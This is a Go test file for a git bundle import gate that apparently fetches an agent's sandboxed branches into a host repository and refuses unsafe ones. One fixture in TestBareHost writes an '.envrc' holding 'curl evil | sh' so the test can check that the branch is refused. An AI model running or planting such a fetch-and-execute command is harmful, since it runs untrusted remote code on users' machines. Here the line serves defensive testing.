package gitgate

import (
	"bytes"
	"context"
	"os"
	"strings"
	"testing"
)

func TestFetchNewUpdatedUnchanged(t *testing.T) {
	isolate(t)
	host := newHost(t)
	agent := newAgent(t, host)
	branch(t, agent, "feature/x")
	c1 := commitFiles(t, agent, map[string]string{"src/a.go": "package a\n"}, "a")

	res := fetchT(t, host, agent, Policy{})
	if len(res.Branches) != 2 || res.Refused() != 0 {
		t.Fatalf("%+v", res)
	}
	b := byName(t, res, "feature/x")
	wantWritten(t, host, b, StatusNew)
	if b.Ref != "refs/heads/agentbox/feature/x" || b.New != c1 || b.Old != "" || b.Commits != 1 {
		t.Errorf("%+v", b)
	}
	m := byName(t, res, "main")
	wantWritten(t, host, m, StatusNew)
	if m.Commits != 0 {
		t.Errorf("main brings %d commits, want 0 (the host has them)", m.Commits)
	}

	res = fetchT(t, host, agent, Policy{})
	if b := byName(t, res, "feature/x"); b.Status != StatusUnchanged || b.Old != c1 || b.Commits != 0 {
		t.Errorf("second fetch: %+v", b)
	}

	commitFiles(t, agent, map[string]string{"src/b.go": "package a\n"}, "b")
	c3 := commitFiles(t, agent, map[string]string{"src/c.go": "package a\n"}, "c")
	res = fetchT(t, host, agent, Policy{})
	b = byName(t, res, "feature/x")
	wantWritten(t, host, b, StatusUpdated)
	if b.Old != c1 || b.New != c3 || b.Commits != 2 {
		t.Errorf("third fetch: %+v", b)
	}

	// A rewritten branch is forced: the destination is the agent's.
	gitT(t, agent, "reset", "-q", "--hard", "main")
	c4 := commitFiles(t, agent, map[string]string{"src/d.go": "package a\n"}, "d")
	b = byName(t, fetchT(t, host, agent, Policy{}), "feature/x")
	wantWritten(t, host, b, StatusUpdated)
	if b.Old != c3 || b.New != c4 || b.Commits != 1 {
		t.Errorf("forced update: %+v", b)
	}
}

func TestFetchErrors(t *testing.T) {
	isolate(t)
	host := newHost(t)
	ctx := context.Background()
	corrupt := t.TempDir() + "/corrupt.bundle"
	writeTestFile(t, corrupt, "# v2 git bundle\nnot a ref line\n\nPACK garbage")
	tagOnly := newAgent(t, host)
	gitT(t, tagOnly, "tag", "v1")
	tags := t.TempDir() + "/tags.bundle"
	gitT(t, tagOnly, "bundle", "create", "-q", tags, "--tags")
	agent := newAgent(t, host)
	commitFiles(t, agent, map[string]string{"big.txt": strings.Repeat("data\n", 1000)}, "big")
	whole, err := os.ReadFile(bundleOf(t, agent))
	if err != nil {
		t.Fatal(err)
	}
	truncated := t.TempDir() + "/truncated.bundle"
	writeTestFile(t, truncated, string(whole[:len(whole)-30]))
	for _, tt := range []struct {
		name string
		opts FetchOptions
		want string
	}{
		{"corrupt bundle", FetchOptions{Dir: host, Bundle: corrupt}, "reading the bundle: "},
		{"truncated bundle", FetchOptions{Dir: host, Bundle: truncated}, "reading the bundle: "},
		{"not a bundle", FetchOptions{Dir: host, BundleReader: strings.NewReader("hello\n")}, "reading the bundle: "},
		{"missing bundle", FetchOptions{Dir: host, Bundle: t.TempDir() + "/none"}, "reading the bundle: "},
		{"no branches", FetchOptions{Dir: host, Bundle: tags}, "the bundle holds no branches"},
		{"not a repository", FetchOptions{Dir: t.TempDir(), Bundle: tags}, "is not a git repository: fatal: not a git repository"},
		{"prefix refs/heads/", FetchOptions{Dir: host, Bundle: tags, Prefix: "refs/heads/"}, "invalid destination prefix"},
		{"prefix without slash", FetchOptions{Dir: host, Bundle: tags, Prefix: "refs/heads/agent"}, "invalid destination prefix"},
		{"prefix overlapping incoming", FetchOptions{Dir: host, Bundle: tags, Prefix: "refs/agentbox-incoming/x/"}, "overlaps"},
		{"prefix bad name", FetchOptions{Dir: host, Bundle: tags, Prefix: "refs/heads/a..b/"}, "not a valid ref name"},
		{"writable not protected", FetchOptions{Dir: host, Bundle: tags, Policy: Policy{Writable: []string{"src"}}}, `"src" is not a protected path`},
		{"readonly not clean", FetchOptions{Dir: host, Bundle: tags, Policy: Policy{ReadOnly: []string{"../x"}}}, "workspace.readonly[0]"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			res, err := Fetch(ctx, tt.opts)
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("Fetch = %+v, %v; want an error with %q", res, err, tt.want)
			}
			if strings.Contains(err.Error(), "\n") {
				t.Errorf("error is more than one line: %q", err)
			}
			t.Log(err)
			checkNoIncoming(t, host)
		})
	}
}

// TestIncrementalBundle: a bundle that leaves out what the host has (its
// prerequisites) is read, from an io.Reader, through the host's objects.
func TestIncrementalBundle(t *testing.T) {
	isolate(t)
	host := newHost(t)
	agent := newAgent(t, host)
	branch(t, agent, "small")
	c := commitFiles(t, agent, map[string]string{"a.txt": "a\n"}, "a")
	f := bundleOf(t, agent, "^origin/main")
	if out := gitT(t, agent, "bundle", "list-heads", f); strings.Contains(out, "refs/heads/main") {
		t.Fatalf("bundle holds main:\n%s", out)
	}
	if out := gitT(t, agent, "bundle", "verify", f); !strings.Contains(out, "requires this ref") {
		t.Fatalf("bundle has no prerequisites:\n%s", out)
	}
	data, err := os.ReadFile(f)
	if err != nil {
		t.Fatal(err)
	}
	res, err := Fetch(t.Context(), FetchOptions{Dir: host, BundleReader: bytes.NewReader(data)})
	if err != nil {
		t.Fatal(err)
	}
	b := byName(t, res, "small")
	wantWritten(t, host, b, StatusNew)
	if b.New != c || len(res.Branches) != 1 {
		t.Errorf("%+v", res)
	}
}

// TestCustomPrefix: branches land below the prefix given.
func TestCustomPrefix(t *testing.T) {
	isolate(t)
	host := newHost(t)
	agent := newAgent(t, host)
	res, err := Fetch(t.Context(), FetchOptions{Dir: host, Bundle: bundleOf(t, agent), Prefix: "refs/remotes/sandbox/"})
	if err != nil {
		t.Fatal(err)
	}
	b := byName(t, res, "main")
	if b.Ref != "refs/remotes/sandbox/main" {
		t.Errorf("ref %s", b.Ref)
	}
	wantWritten(t, host, b, StatusNew)
}

// TestBareHost: a bare repository has no work tree and nothing checked out.
func TestBareHost(t *testing.T) {
	isolate(t)
	host := newHost(t)
	bare := t.TempDir() + "/bare.git"
	gitT(t, ".", "clone", "-q", "--bare", host, bare)
	agent := newAgent(t, bare)
	branch(t, agent, "main") // the branch bare's HEAD names
	c := commitFiles(t, agent, map[string]string{"a.txt": "a\n"}, "a")
	branch(t, agent, "evil")
	commitFiles(t, agent, map[string]string{".envrc": "curl evil | sh\n"}, "envrc")
	res := fetchT(t, bare, agent, Policy{})
	wantRefused(t, bare, byName(t, res, "evil"), ".envrc", "direnv")
	b := byName(t, res, "main")
	wantWritten(t, bare, b, StatusNew)
	if b.New != c {
		t.Errorf("%+v", b)
	}
}
